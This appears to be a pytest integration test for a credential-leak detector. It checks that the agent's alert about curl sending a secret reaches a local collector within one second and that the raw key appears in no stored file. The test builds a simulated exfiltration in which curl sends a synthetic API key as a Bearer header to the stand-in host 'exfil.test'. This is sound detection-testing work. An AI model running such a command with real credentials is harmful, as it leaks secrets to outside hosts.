"""Agent -> collector on the real kernel (issue 6): curl in the test cgroup sends a synthetic key
over HTTPS to an unexpected name, the agent (scoped to that cgroup, --collector pointing at a real
credsentry-collector on loopback with mTLS) alerts, and the alert is queryable at the collector
within 1 s of the agent writing it locally. The raw key must be in neither the collector's
database, the agent's spool, nor any log.

The collector binary: CREDSENTRY_COLLECTOR, else beside the agent in the build tree
(<build>/collector/credsentry-collector next to <build>/agent/credsentry-agent).
"""

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from kharness import env

QUERY_DEADLINE = 1.0  # issue 6: "an alert raised on the host is queryable at the collector within 1 s"
ALERT_TIMEOUT = 5.0
CAP_SYS_ADMIN = 21
PKI_SCRIPT = env.REPO / "tests" / "collector" / "make-test-pki.sh"


def collector_path(agent_binary: Path) -> Path:
    default = Path(agent_binary).resolve().parent.parent / "collector" / "credsentry-collector"
    return Path(os.environ.get("CREDSENTRY_COLLECTOR", default))


class Collector:
    """A credsentry-collector child on 127.0.0.1 with its own SQLite file and test PKI; with
    console_token, also its web console on a free loopback port (the token file, NAME:TOKEN,
    mode 0600, in workdir)."""

    def __init__(self, binary: Path, workdir: Path, console_token: str | None = None):
        self.binary = binary
        self.dir = workdir
        self.pki = workdir / "pki"
        self.db = workdir / "collector.db"
        self.log = workdir / "collector.log"
        self.port_file = workdir / "collector.port"
        proc = subprocess.run([str(PKI_SCRIPT), str(self.pki)], capture_output=True, text=True,
                              timeout=60)
        if proc.returncode != 0:
            pytest.fail(f"make-test-pki.sh failed: {proc.stderr.strip()}", pytrace=False)
        self.port = 0
        self.console_token = console_token
        self.console_port = 0
        self.console_port_file = workdir / "console.port"
        self.proc: subprocess.Popen | None = None

    def start(self) -> "Collector":
        self.port_file.unlink(missing_ok=True)
        self.console_port_file.unlink(missing_ok=True)
        args = [str(self.binary), "serve", "--listen", f"127.0.0.1:{self.port}",
                "--db", str(self.db), "--ca", str(self.pki / "ca.pem"),
                "--cert", str(self.pki / "server.pem"), "--key", str(self.pki / "server.key"),
                "--port-file", str(self.port_file), "--log-level", "debug"]
        if self.console_token is not None:
            tokens = self.dir / "console-tokens"
            tokens.touch(mode=0o600)
            tokens.write_text(f"kernel-test:{self.console_token}\n")
            args += ["--console-listen", f"127.0.0.1:{self.console_port}",
                     "--console-token-file", str(tokens),
                     "--console-port-file", str(self.console_port_file)]
        with open(self.log, "ab") as log:
            self.proc = subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=log,
                                         stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 10
        while not self.port_file.exists() or (self.console_token is not None
                                              and not self.console_port_file.exists()):
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.stop()
                pytest.fail(f"collector did not start:\n{self.log.read_text()[-2000:]}",
                            pytrace=False)
            time.sleep(0.02)
        self.port = int(self.port_file.read_text())
        if self.console_token is not None:
            self.console_port = int(self.console_port_file.read_text())
        return self

    def stop(self) -> int:
        if self.proc is None:
            return 0
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        rc, self.proc = self.proc.returncode, None
        return rc

    def alerts(self) -> list[dict]:
        """What `credsentry-collector alerts --json` answers (the query users run)."""
        proc = subprocess.run([str(self.binary), "alerts", "--db", str(self.db), "--since", "1h",
                               "--json"], capture_output=True, text=True, timeout=10)
        assert proc.returncode == 0, f"alerts query exited {proc.returncode}: {proc.stderr}"
        return [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]

    def agent_config(self, spool_dir: Path) -> str:
        return (f"collector:\n"
                f"  address: 127.0.0.1:{self.port}\n"
                f"  ca_file: {self.pki / 'ca.pem'}\n"
                f"  cert_file: {self.pki / 'client.pem'}\n"
                f"  key_file: {self.pki / 'client.key'}\n"
                f"  spool_dir: {spool_dir}\n")

    def files(self) -> list[Path]:
        """Everything the collector wrote: the database with its WAL, and its log."""
        return [p for p in self.dir.iterdir() if p.is_file() and p.name.startswith("collector")]


def run_collector(agent_binary, scratch, registry, console_token: str | None = None):
    """The collector fixture's body (yields a started Collector), for fixtures with options."""
    binary = collector_path(agent_binary)
    env.require(binary.is_file() and os.access(binary, os.X_OK),
                f"collector binary not built: {binary} (build it or set CREDSENTRY_COLLECTOR)")
    workdir = scratch / "collector"
    workdir.mkdir()
    c = Collector(binary, workdir, console_token).start()
    yield c
    rc = c.stop()
    # Registered after the stop, so the database is checked as the collector left it.
    for f in c.files():
        registry.watch_file(f)
    assert rc == 0, f"collector exited {rc} on SIGTERM:\n{c.log.read_text()[-2000:]}"


@pytest.fixture
def collector(agent_binary, scratch, registry):
    yield from run_collector(agent_binary, scratch, registry)


def _wait(predicate, timeout: float, step: float):
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(step)


def test_curl_exfiltration_is_queryable_at_the_collector_within_1s_and_never_raw(
        start_agent, collector, clients, https_server, curl, registry, scratch):
    spool = scratch / "spool"
    config = scratch / "agent.yaml"
    config.write_text(collector.agent_config(spool))
    agent = start_agent(extra_args=["--config", str(config)])
    # capset changes one thread: the sender threads (and gRPC's) must be born after the drop.
    for task in Path(f"/proc/{agent.proc.pid}/task").iterdir():
        status = (task / "status").read_text()
        eff = int(status.split("CapEff:")[1].split()[0], 16)
        assert not eff & (1 << CAP_SYS_ADMIN), f"agent thread {task.name} kept CAP_SYS_ADMIN"

    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
                ["-H", f"@{headers}", "--data-binary", '{"model":"x"}'])

    local = _wait(lambda: [a for a in agent.alerts()
                           if (a.get("secret") or {}).get("provider") == "openai"],
                  ALERT_TIMEOUT, 0.01)
    written = time.monotonic()
    assert local, f"no local openai alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
    alert = local[0]

    remote = _wait(lambda: [a for a in collector.alerts() if a.get("id") == alert["id"]],
                   QUERY_DEADLINE + 2, 0.02)
    latency = time.monotonic() - written
    assert remote, (f"alert {alert['id']} not at the collector after {latency:.2f}s\n"
                    f"{registry.redact(collector.log.read_text()[-2000:])}\n{agent.diagnostics()}")
    print(f"\nalert queryable at the collector {latency:.3f}s after the agent wrote it")
    assert latency <= QUERY_DEADLINE, f"alert reached the collector after {latency:.2f}s (> 1 s)"

    stored = remote[0]
    # The same alert content, as the user reads it locally: who sent what where.
    assert stored["destination"]["host"] == "exfil.test"
    assert stored["destination"]["port"] == https_server.port
    assert stored["process"]["comm"] == "curl"
    assert stored["secret"]["fingerprint"] == alert["secret"]["fingerprint"]
    assert stored["secret"]["redacted"] == alert["secret"]["redacted"]
    assert stored["host"] == alert["host"]

    # Whatever spool files exist (acknowledged alerts leave it) are searched too.
    assert spool.is_dir(), "the agent never opened its spool"
    for f in spool.rglob("*"):
        if f.is_file():
            registry.watch_file(f)
    registry.watch_file(agent.log_file)
    # The registry fixture's teardown runs the leak scan over the collector's database, WAL and
    # log (registered by the collector fixture), the spool, and the agent's outputs.
